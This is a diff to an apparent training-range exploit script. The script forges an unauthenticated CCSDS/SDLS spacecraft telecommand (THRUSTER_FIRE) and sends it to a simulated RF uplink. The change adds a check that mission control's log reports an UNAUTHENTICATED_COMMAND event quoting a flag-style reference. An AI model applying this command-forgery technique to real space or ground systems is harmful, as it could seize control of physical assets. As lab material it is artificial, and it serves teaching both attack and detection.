@@ -11,7 +11,12 @@ security association that is still operational. Plaintext means a security heade
    does not matter and the ground station's COP-1 session is not disturbed.
 2. Transmit it to the rf-link (UDP 5100), like any ground station.
 
-Exit status 0 when the frame was sent, 2 when the SA table cannot be read.
+3. Read mission control's event log (the student's own account): the spacecraft's
+   on-board monitoring reports the command as UNAUTHENTICATED_COMMAND, quoting a
+   reference: the evidence for the report.
+
+Exit status 0 when the frame was sent and the event quotes the reference, 2 when the SA
+table cannot be read, 3 when no UNAUTHENTICATED_COMMAND event came.
 """
 
 from __future__ import annotations
@@ -35,6 +40,7 @@ from labctl.protocols.layers import (
 )
 from labctl.protocols.sdls import SecurityAssociation, ServiceType
 from labctl.range import wiring
+from labctl.range.missionclient import MissionControl, MissionControlError
 
 SA_TABLE = Path("/home/student/sa-table.txt")
 RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
@@ -77,9 +83,21 @@ def main() -> int:
     frame = forged_frame(scid, spi, arsn=1)
     raw = bytes(frame)
     TCFrame(raw).show()  # dissected again: what the spacecraft will parse
+    try:
+        mc = MissionControl.from_file()
+        before = mc.last_event_id()
+    except (OSError, MissionControlError) as exc:
+        print(f"mission control: {exc}")
+        mc, before = None, 0
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.sendto(raw, RF_LINK)
     print(f"sent forged THRUSTER_FIRE: BD frame SCID {scid}, SPI {spi}, {len(raw)} octets")
+    text = mc.event_text("UNAUTHENTICATED_COMMAND", before) if mc is not None else None
+    found = re.search(r"INTRUSION\{[0-9a-f]+\}", text or "")
+    if found is None:
+        print("no UNAUTHENTICATED_COMMAND event in mission control's log")
+        return 3
+    print(f"the spacecraft reported it: UNAUTHENTICATED_COMMAND quoting {found.group(0)}")
     return 0
 
 
